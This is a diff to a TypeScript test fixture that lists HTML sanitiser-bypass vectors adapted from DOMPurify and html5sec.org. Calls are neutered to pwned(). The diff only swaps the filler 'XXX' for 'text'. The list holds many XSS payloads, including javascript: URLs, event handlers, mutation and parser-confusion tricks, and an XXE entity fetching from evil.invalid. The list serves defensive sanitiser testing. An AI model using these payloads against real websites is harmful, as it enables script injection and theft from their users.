@@ -1,7 +1,7 @@
 /**
  * Attacks on sanitisers, as data. Source: the test fixtures of DOMPurify (github.com/cure53/DOMPurify,
- * `test/fixtures/expect.mjs`, read 2026-11; Apache-2.0 or MPL-2.0), with the calls and addresses in them
- * replaced by `pwned()` and `evil.invalid`. Many go back to html5sec.org.
+ * `test/fixtures/expect.mjs`, read 2026-11; Apache-2.0 or MPL-2.0), with the calls, addresses and filler text in them
+ * replaced by `pwned()`, `evil.invalid` and `text`. Many go back to html5sec.org.
  */
 export const domPurifyVectors: readonly string[] = [
   // Clobbering of the DOM
@@ -25,9 +25,9 @@ export const domPurifyVectors: readonly string[] = [
   '<a href="\u0001java\u0003script:pwned()">a<a>',
   '<b href="javascript:pwned()" title="javascript:pwned()"></b>',
   '<img src="data:,123"><audio src="data:,456"></audio><video src="data:,789"></video><source src="data:,012"><div src="data:,345">',
-  '<form action="javasc\nript:pwned()"><button>XXX</button></form>',
+  '<form action="javasc\nript:pwned()"><button>text</button></form>',
   '<a href="javascript:123" onclick="pwned()">CLICK ME</a>',
-  '<a href="javascript:pwned()"><event-source src="data:application/x-dom-event-stream,Event:click%0Adata:XXX%0A%0A" /></a>',
+  '<a href="javascript:pwned()"><event-source src="data:application/x-dom-event-stream,Event:click%0Adata:text%0A%0A" /></a>',
   // Markup that changes when it is parsed again
   '<listing>&lt;img onerror="pwned();//" src=x&gt;<t t></listing>',
   "<img src=x id/=' onerror=pwned()//'>",
@@ -90,9 +90,9 @@ export const domPurifyVectors: readonly string[] = [
   '<div><style>@import "data:,*%7bx:expression(pwned())%7D";</style></div>',
   '<div><frameset onload=pwned()></div>',
   '<div><table background="javascript:pwned()"></table></div>',
-  '<div><a style="pointer-events:none;position:absolute;"><a style="position:absolute;" onclick="pwned();">XXX</a></a><a href="javascript:pwned()">XXX</a></div>',
+  '<div><a style="pointer-events:none;position:absolute;"><a style="position:absolute;" onclick="pwned();">text</a></a><a href="javascript:pwned()">text</a></div>',
   '<div>1<vmlframe xmlns=urn:schemas-microsoft-com:vml style=behavior:url(#default#vml);position:absolute;width:100%;height:100% src=test.vml#xss></vmlframe></div>',
-  '<div><a style="behavior:url(#default#AnchorClick);" folder="javascript:pwned()">XXX</a></div>',
+  '<div><a style="behavior:url(#default#AnchorClick);" folder="javascript:pwned()">text</a></div>',
   '<div><!--<img src="--><img src=x onerror=pwned()//"></div>',
   '<div><comment><img src="</comment><img src=x onerror=pwned()//"></div>',
   '<![><img src="]><img src=x onerror=pwned()//">',
@@ -100,10 +100,10 @@ export const domPurifyVectors: readonly string[] = [
   '<div><style><img src="</style><img src=x onerror=pwned()//"></div>',
   '<div><li style=list-style:url() onerror=pwned()></li>',
   '<div style=content:url(data:image/svg+xml,%3Csvg/%3E);visibility:hidden onload=pwned()></div>',
-  '<div><head><base href="javascript://"/></head><body><a href="/. /,pwned()//#">XXX</a></body></div>',
+  '<div><head><base href="javascript://"/></head><body><a href="/. /,pwned()//#">text</a></body></div>',
   "<div><style>*[{}@import'test.css?]{color: green;}</style>X</div>",
-  '<div><div style="font-family:\'foo[a];color:red;\';">XXX</div></div>',
-  '<div><div style="font-family:foo}color=red;">XXX</div></div>',
+  '<div><div style="font-family:\'foo[a];color:red;\';">text</div></div>',
+  '<div><div style="font-family:foo}color=red;">text</div></div>',
   '<div><svg xmlns="http://www.w3.org/2000/svg"><script>pwned()</script></svg></div>',
   '<div><SCRIPT FOR=document EVENT=onreadystatechange>pwned()</SCRIPT></div>',
   '<div><OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:pwned()"></OBJECT></div>',
@@ -116,13 +116,13 @@ export const domPurifyVectors: readonly string[] = [
   '<div><b <script>pwned()//</script>0</script></b></div>',
   '<div><b><script<b></b><pwned()</script </b></b></div>',
   '<div><div><input value="``onmouseover=pwned()"></div></div>',
-  '<div><div style="[a]color[b]:[c]red">XXX</div></div>',
+  '<div><div style="[a]color[b]:[c]red">text</div></div>',
   "<div><x '=\"foo\"><x foo='><img src=x onerror=pwned()//'><! '=\"foo\"><x foo='><img src=x onerror=pwned()//'><? '=\"foo\"><x foo='><img src=x onerror=pwned()//'></div>",
   '<div><embed src="javascript:pwned()"></embed><img src="javascript:pwned()"><image src="javascript:pwned()"><script src="javascript:pwned()"></script></div>',
   '<div><!DOCTYPE x[<!ENTITY x SYSTEM "http://evil.invalid/test.xxe">]><y>&x;</y></div>',
   '<div><svg onload="javascript:pwned()" xmlns="http://www.w3.org/2000/svg"></svg></div><div><?xml version="1.0"?>',
   '<div><!DOCTYPE x [<!ATTLIST img xmlns CDATA "http://www.w3.org/1999/xhtml" src CDATA "xx" onerror CDATA "pwned()" onload CDATA "pwned()">]><img /></div>',
-  '<div><doc xmlns:xlink="http://www.w3.org/1999/xlink"><html:style /><x xlink:href="javascript:pwned()" xlink:type="simple">XXX</x></doc></div>',
+  '<div><doc xmlns:xlink="http://www.w3.org/1999/xlink"><html:style /><x xlink:href="javascript:pwned()" xlink:type="simple">text</x></doc></div>',
   '<div><card xmlns="http://www.wapforum.org/2001/wml"><onevent type="ontimer"><go href="javascript:pwned()"/></onevent><timer value="1"/></card></div>',
   '<div><div style=width:1px;filter:glow onfilterchange=pwned()>x</div></div>',
   '<div><form><button formaction="javascript:pwned()">X</button></div>',
